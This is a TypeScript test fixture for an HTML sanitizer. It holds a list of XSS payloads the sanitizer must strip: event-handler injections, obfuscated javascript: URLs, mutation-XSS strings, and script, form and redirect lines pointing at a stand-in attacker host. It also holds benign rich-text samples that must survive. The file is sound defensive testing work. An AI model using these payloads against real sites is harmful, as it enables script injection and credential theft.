import type { HtmlPolicy } from './safe-html-policy';

/**
 * Server HTML for the sanitizer's tests, shared by the unit tests (safe-html.test.ts: jsdom, where
 * DOMPurify sanitizes) and the end-to-end test that holds the browser's own sanitizer to DOMPurify
 * in Chromium (tests/e2e/sanitizer-engines.spec.ts).
 */

// A policy like the flows': in-app paths under /m/ that the merchant routes, https links to one
// allowed origin, images from one CDN.
export const TEST_POLICY: HtmlPolicy = {
  link: (href) => {
    if (href === '/m/activity' || href.startsWith('/m/activity?')) return { kind: 'in-app', path: href };
    if (href.startsWith('https://good.example/')) return { kind: 'external', url: href };
    return null;
  },
  image: (src) => (src.startsWith('https://cdn.example/') ? src : null),
};

/** Markup with something active or off the policy in it: nothing of it may survive. */
export const ATTACKS: [name: string, html: string][] = [
  ['script element', '<p>a</p><script>window.__pwned = 1</script>'],
  ['script with src', '<script src="https://evil.example/x.js"></script>'],
  ['img onerror', '<img src="x" onerror="window.__pwned=1">'],
  ['body onload', '<body onload="window.__pwned=1"><p>x</p></body>'],
  ['svg onload', '<svg onload="window.__pwned=1"><circle r="1"/></svg>'],
  ['svg script', '<svg><script>window.__pwned=1</script></svg>'],
  ['svg animate href', '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>'],
  ['math mglyph', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['javascript: link', '<a href="javascript:window.__pwned=1">go</a>'],
  ['JaVaScRiPt: with entities', '<a href="&#106;avascript:alert(1)">go</a>'],
  ['javascript: with whitespace', '<a href=" java\tscript:alert(1)">go</a>'],
  ['data: link', '<a href="data:text/html,<script>alert(1)</script>">go</a>'],
  ['vbscript: link', '<a href="vbscript:msgbox(1)">go</a>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['object data', '<object data="javascript:alert(1)"></object>'],
  ['embed', '<embed src="javascript:alert(1)">'],
  ['form with action', '<form action="https://evil.example"><input name="password"><button>Send</button></form>'],
  ['formaction', '<button formaction="javascript:alert(1)">x</button>'],
  ['style element', '<style>body{display:none}</style><p>x</p>'],
  ['inline style', '<p style="position:fixed;inset:0;background:url(javascript:alert(1))">x</p>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ['base href', '<base href="https://evil.example/">'],
  ['link import', '<link rel="import" href="https://evil.example/x">'],
  ['details ontoggle', '<details open ontoggle="window.__pwned=1"><summary>x</summary></details>'],
  ['data attribute', '<a data-in-app href="/m/home">x</a>'],
  ['template', '<template><script>alert(1)</script></template>'],
  ['noscript mXSS', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ['external link off the list', '<a href="https://evil.example/phish">prize</a>'],
  ['protocol-relative link', '<a href="//evil.example/x">x</a>'],
  ['in-app path without a route', '<a href="/m/secret">x</a>'],
  ['image off the CDN', '<img src="https://evil.example/track.gif">'],
];

/** Markup as operators' rich-text editors write it: all of it stays (its URLs as the policy says). */
export const OPERATOR_MARKUP: string[] = [
  '<h3>Title</h3><p>Deposit <strong>100%</strong> <em>now</em></p><ul><li>a</li></ul>',
  '<center><font color="#ff0000" size="4" face="Arial">Big <b>prize</b></font></center><br><hr>',
  '<table border="1" cellpadding="4" cellspacing="0" width="100%"><thead><tr><th scope="col">Level</th><th>Bonus</th></tr></thead><tbody><tr><td align="center" bgcolor="#ffeeaa">VIP 1</td><td colspan="2" valign="top">5%</td></tr></tbody></table>',
  '<p>Read <a href="/m/activity?id=7" target="_blank">the promotion</a> or <a href="https://good.example/rules">the rules</a>.</p>',
  '<p><img src="https://cdn.example/a.jpg" width="300" height="150" alt="Banner" title="Banner"></p>',
  '<ol start="3" reversed type="a"><li>three</li><li>two</li></ol><dl><dt>Term</dt><dd>Definition</dd></dl>',
  '<details open><summary>More</summary><p>Hidden <small>text</small> <sub>1</sub><sup>2</sup></p></details>',
  '<blockquote>Quote</blockquote><pre><code>code</code></pre><p dir="rtl" lang="ur">اردو</p><p class="note" title="t">x</p>',
  '<div><span>Line<br>two</span><u>u</u><s>s</s><strike>st</strike><mark>m</mark><abbr title="x">ab</abbr><time datetime="2026-01-01">day</time></div>',
  '<p>Text with &amp; entities &lt;b&gt; and &nbsp;spaces</p><!-- a comment --><p>after</p>',
  '<unknown-element>gone with its content</unknown-element><p>kept</p><o:p>word</o:p>',
];
